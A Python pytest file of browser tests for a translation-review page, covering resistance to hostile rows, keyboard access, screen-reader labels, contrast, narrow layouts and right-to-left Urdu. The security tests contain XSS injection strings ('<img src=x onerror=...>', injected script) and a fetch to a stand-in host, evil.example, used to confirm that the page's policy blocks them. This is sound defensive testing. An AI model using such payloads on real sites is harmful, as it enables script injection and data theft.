"""What the page shows, and to whom: hostile rows do nothing in it, Urdu runs from right to left, no mouse is needed."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from babelset.review.record import Item
from tests.report.test_page import CONTRAST, HOSTILE
from tests.review.browsing import FIVE, NEEDED, Open, Serve, keeping, urdu
from tests.review.conftest import item_of

pytestmark = NEEDED


def hostile() -> Iterator[Item]:
    for number, text in enumerate(HOSTILE):
        short = text[:2000]
        part = {"segment": 0, "source": text, "target": text, "keeps": [short[:50], ".*"], "flags": [short], "reason": short, "notes": [[short, short]]}  # fmt: skip
        fields = [{"name": short, "role": text[:500], "parts": [f"\n{short}\n", part, f" {short}\n\n{short}", {**part, "segment": 1}]}]  # fmt: skip
        yield item_of(
            f"h{number:02}", place=short, run=short, kinds=[short[:40]], scores={short: 0.5}, reasons=[[short, short]], engine=short,
            fields=fields, alternatives=[[short, short]], source_name=short[:99], target_name=short[:99],
        )  # fmt: skip


def test_hostile_rows_run_nothing_and_send_nothing(serve: Serve, tab: Open) -> None:
    served = serve(*hostile(), reviewer=HOSTILE[0])
    here = tab(served.url)
    for number in range(len(HOSTILE)):
        here.wait("#heading", f"Row {number + 1} of")
        here.page.locator(".field").first.wait_for()
        if len(HOSTILE[number]) < 10_000:
            here.press("c", "End", "x", "Control+Enter", "Control+Enter")
            here.press(*["Escape"] * 2)
            here.go(number + 1)
            here.page.locator("details").click(force=True)
        if number < len(HOSTILE) - 1:
            here.press("j")
    here.press("/")
    here.type("<script>window")
    here.page.wait_for_timeout(500)
    assert here.page.evaluate("window.pwned") is None
    assert (here.elsewhere, here.dialogs, here.page.url) == ([], [], served.url)
    assert here.page.locator("main").locator("script, img, iframe, base, link, meta, object, style, a").count() == 0


def test_the_policy_stops_what_is_not_ours(serve: Serve, tab: Open) -> None:
    here = tab(serve(*FIVE).url)
    tried = here.page.evaluate(
        """() => {
            const refused = [];
            const attempt = (name, act) => { try { act(); } catch { refused.push(name); } };
            attempt("markup", () => { document.body.innerHTML += "<img src=x onerror='window.pwned = 1'>"; });
            attempt("script", () => { const script = document.createElement("script"); script.textContent = "window.pwned = 1"; document.body.append(script); });
            return refused;
        }"""
    )
    assert tried == ["markup", "script"]
    sent = here.page.evaluate("fetch('http://evil.example/').then(() => 'sent', () => 'stopped')")
    assert (sent, here.page.evaluate("window.pwned")) == ("stopped", None)


def test_everything_is_reached_with_the_tab_key_and_seen(serve: Serve, tab: Open) -> None:
    served = serve(*FIVE)
    here = tab(served.url)
    here.page.locator("#who-button").focus()
    here.press("Shift+Tab")
    seen = []
    for _ in range(30):
        here.press("Tab")
        seen.append(
            here.page.evaluate("""() => {
            const at = document.activeElement, style = getComputedStyle(at);
            return [at.id || at.dataset.does || at.textContent, style.outlineStyle !== "none" && parseFloat(style.outlineWidth) >= 2];
        }""")
        )
    names = [name for name, _ in seen]
    wanted = ["who-button", "help-button", "search", "status", "sort", "rows", "accept", "reject", "correct", "undo", "previous", "next", "open"]  # fmt: skip
    assert [name for name in dict.fromkeys(names) if name in wanted] == wanted
    assert [name for name, visible in seen if name in wanted and not visible] == []


def test_what_a_screen_reader_finds(serve: Serve, tab: Open) -> None:
    served = serve(urdu("a"), *FIVE[1:])
    here = tab(served.url)
    for role in ("main", "search", "banner", "listbox"):
        assert here.page.get_by_role(role).count() == 1, role  # type: ignore[arg-type]
    here.press("c")
    assert here.page.get_by_role("textbox", name="Translation of segment 1, Urdu").count() == 1
    unnamed = "[...document.querySelectorAll('input, select, textarea, section, progress, dialog')].filter((one) => !one.labels?.length && !one.ariaLabel && !one.getAttribute('aria-labelledby')).length"
    assert here.page.evaluate(unnamed) == 0
    ids = here.page.evaluate("[...document.querySelectorAll('[id]')].map((one) => one.id)")
    assert len(ids) == len(set(ids))
    here.press("Escape", "a")
    here.wait("#live", "Row 2 of 5")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out(serve: Serve, tab: Open, scheme: str) -> None:
    served = serve(urdu("a"), keeping("b", "Hi.", None, reasons=[["length", "too long"]], status="rejected"), *FIVE[2:])
    here = tab(served.url, color_scheme=scheme)
    found = {"row": here.page.evaluate(CONTRAST)}
    here.press("c", "Control+A", "x", "Control+Enter")
    found["correction"] = here.page.evaluate(CONTRAST)
    here.press("Control+Enter", "r")
    found["reasons"] = here.page.evaluate(CONTRAST)
    here.press("Escape", "k")
    found["corrected"] = here.page.evaluate(CONTRAST)
    here.press("?")
    found["help"] = here.page.evaluate(CONTRAST)
    here.press("Escape")
    served.stop()
    here.press("j", "r", "1")
    here.wait("#saved", "Not saved yet")
    found["away"] = here.page.evaluate(CONTRAST)
    served.start()
    assert min(found.values()) >= 4.5, found


@pytest.mark.parametrize(("width", "height"), [(320, 480), (390, 780), (640, 400), (1280, 800)])
def test_nothing_is_wider_than_the_window(serve: Serve, tab: Open, width: int, height: int) -> None:
    """1280 pixels at 200 % and at 400 % are 640 and 320 of those that a page counts in."""
    served = serve(*list(hostile())[:8], urdu("u"))
    here = tab(served.url, viewport={"width": width, "height": height})
    wide = "document.documentElement.scrollWidth"
    for keys in (["j"], ["c"], ["Escape", "r"], ["Escape", "?"]):
        here.press(*keys)
        here.page.wait_for_timeout(50)
        assert here.page.evaluate(wide) <= width, keys
    here.press("Escape")
    if width < 800:
        here.page.get_by_role("button", name="Rows").click()
        here.page.locator("#rows [role=option]").nth(3).click()
        here.wait("#heading", "Row 4 of 9")
    reachable = "[...document.querySelectorAll('#bar button')].filter((one) => one.offsetParent && one.getBoundingClientRect().right > innerWidth).length"
    assert here.page.evaluate(reachable) == 0


def test_urdu_runs_from_right_to_left_and_its_code_does_not(serve: Serve, tab: Open) -> None:
    served = serve(urdu("a"))
    here = tab(served.url)
    source, target = here.page.locator(".pair .text").all()
    assert (source.get_attribute("lang"), source.get_attribute("dir")) == ("en", "ltr")
    assert (target.get_attribute("lang"), target.get_attribute("dir")) == ("ur", "rtl")
    style = "(node) => [getComputedStyle(node).direction, getComputedStyle(node).unicodeBidi]"
    assert target.evaluate(style)[0] == "rtl"
    assert target.locator("mark").evaluate(style) == ["ltr", "isolate"]
    places = """(node) => {
        const box = (text, at) => { const range = document.createRange(); range.setStart(text, at); range.setEnd(text, at + 1); return range.getBoundingClientRect().left; };
        const mark = node.querySelector("mark").firstChild;
        return [box(node.firstChild, 0), box(mark, 0), box(mark, mark.data.length - 1), box(node.lastChild, node.lastChild.data.length - 2)];
    }"""
    first, code, end, last = target.evaluate(places)
    assert first > end > code > last  # the sentence runs to the left, the code in it to the right
    here.press("c")
    box = here.page.locator("textarea")
    assert (box.get_attribute("lang"), box.evaluate(style)[0]) == ("ur", "rtl")
    assert here.page.locator("html").get_attribute("lang") == "en"
